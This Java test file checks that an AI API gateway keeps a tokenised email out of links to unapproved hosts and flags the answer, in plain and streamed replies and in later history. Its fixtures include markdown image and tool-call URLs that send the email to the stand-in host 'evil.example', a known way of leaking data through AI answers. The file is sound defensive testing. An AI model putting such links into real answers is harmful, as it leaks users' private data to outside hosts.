package io.ledgerline.gateway;

import static io.ledgerline.gateway.Rig.AUTH;
import static org.assertj.core.api.Assertions.assertThat;

import io.ledgerline.audit.EntryView;
import io.ledgerline.audit.EventType;
import io.ledgerline.audit.Field;
import io.ledgerline.governance.data.DataPolicy;
import io.ledgerline.governance.setting.Spec;
import io.ledgerline.inspection.rule.AnswerChecks;
import io.ledgerline.inspection.rule.OutputRules;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** An address in an answer carries no value to a host that nobody allowed. */
class ValuesInLinksTest {
  private static final String MAIL = "jane.doe@acme-corp.com";
  private static final Pattern TOKEN = Pattern.compile("email[0-9][0-9a-z]{10}@mail\\.example");
  private static final String ASKED =
      Wire.REQUEST.replace("\"hi\"", "\"See https://crm.acme.com/p/" + MAIL + " now\"");
  private static final String TEXT =
      "To %1$s: ![x](https://evil.example/%1$s/a.png) [y](https://crm.acme.com/q/%1$s)"
          + " https://a.shop.example/%1$s";
  private static final OutputRules SHOP =
      new OutputRules(
          OutputRules.Mode.SENTENCE,
          "no",
          List.of(),
          new AnswerChecks(Map.of(), Set.of("shop.example")));

  private static String token(String sent) {
    Matcher token = TOKEN.matcher(sent);
    assertThat(token.find()).as(sent).isTrue();
    return token.group();
  }

  private static String expected(String token) {
    return TEXT.formatted(MAIL).replace("evil.example/" + MAIL, "evil.example/" + token);
  }

  private static Rig rig(ScriptedUpstream upstream) throws Exception {
    var policy = DataPolicy.of("threadco", "support", new Spec(Map.of()));
    return Rig.to(upstream.url())
        .data(new PrivacyTest.ListedTokens(), policy)
        .outputs(SHOP)
        .start();
  }

  private static void assertFlagged(Rig rig) throws Exception {
    EntryView completed = rig.log.await(EventType.CALL_COMPLETED);
    assertThat(completed.texts(Field.POLICY_FLAGS)).contains("answer.value_in_link");
    assertThat(completed.objects(Field.CHANGES))
        .anySatisfy(
            each ->
                assertThat(each)
                    .containsEntry("kind", "data_kept_from_link")
                    .containsEntry("after", "1 left as they are"));
  }

  @Test
  void theTokenStaysInAnAddressOfAForeignHostAndInHistoryThen() throws Exception {
    try (var upstream =
            new ScriptedUpstream(
                x ->
                    x.answer(
                        200,
                        "application/json",
                        Wire.MESSAGE.replace("Hello", TEXT.formatted(token(x.request().text())))));
        Rig rig = rig(upstream);
        RawClient client = rig.client()) {
      client.post("/v1/messages", ASKED, AUTH);
      String token = token(upstream.take().text());
      assertThat(client.read().text()).contains("\"text\":\"" + expected(token) + "\"");
      assertFlagged(rig);
      String next =
          ASKED.replace(
              " now\"}",
              " now\"},{\"role\":\"assistant\",\"content\":\""
                  + expected(token)
                  + "\"},{\"role\":\"user\",\"content\":\"and?\"}");
      client.post("/v1/messages", next, AUTH);
      assertThat(client.read().status()).isEqualTo(200);
      assertThat(upstream.take().text())
          .contains("\"content\":\"" + TEXT.formatted(token) + "\"")
          .doesNotContain(MAIL);
    }
  }

  @Test
  void theSameHoldsInAStreamHoweverItIsCut() throws Exception {
    for (int size : new int[] {1, 7, 30}) {
      try (var upstream =
              new ScriptedUpstream(
                  x -> {
                    x.events();
                    x.chunk(Wire.START + Wire.BLOCK);
                    String text = TEXT.formatted(token(x.request().text()));
                    for (int at = 0; at < text.length(); at += size) {
                      String piece = text.substring(at, Math.min(text.length(), at + size));
                      x.chunk(Wire.DELTA.replace("Grüße 🤖", piece));
                    }
                    x.chunk(Wire.BLOCK_STOP + Wire.MESSAGE_DELTA + Wire.STOP);
                    x.end();
                  });
          Rig rig = rig(upstream);
          RawClient client = rig.client()) {
        client.post(
            "/v1/messages",
            ASKED.replace("\"max_tokens\"", "\"stream\":true,\"max_tokens\""),
            AUTH);
        String token = token(upstream.take().text());
        var texts = new StringBuilder();
        Matcher delta =
            Pattern.compile("_delta\",\"text\":\"(.*)\"}}").matcher(client.read().text());
        while (delta.find()) {
          texts.append(delta.group(1));
        }
        assertThat(texts).hasToString(expected(token));
        assertFlagged(rig);
      }
    }
  }

  @Test
  void aToolIsGivenTheValueWhateverTheAddress() throws Exception {
    try (var upstream =
            new ScriptedUpstream(
                x ->
                    x.answer(
                        200,
                        "application/json",
                        Wire.MESSAGE.replace(
                            "{\"type\":\"text\",\"text\":\"Hello\"}",
                            "{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"f\",\"input\":{\"u\":\"https://evil.example/%s\"}}"
                                .formatted(token(x.request().text())))));
        Rig rig = rig(upstream);
        RawClient client = rig.client()) {
      client.post("/v1/messages", ASKED, AUTH);
      assertThat(client.read().text()).contains("\"u\":\"https://evil.example/" + MAIL + "\"");
    }
  }
}
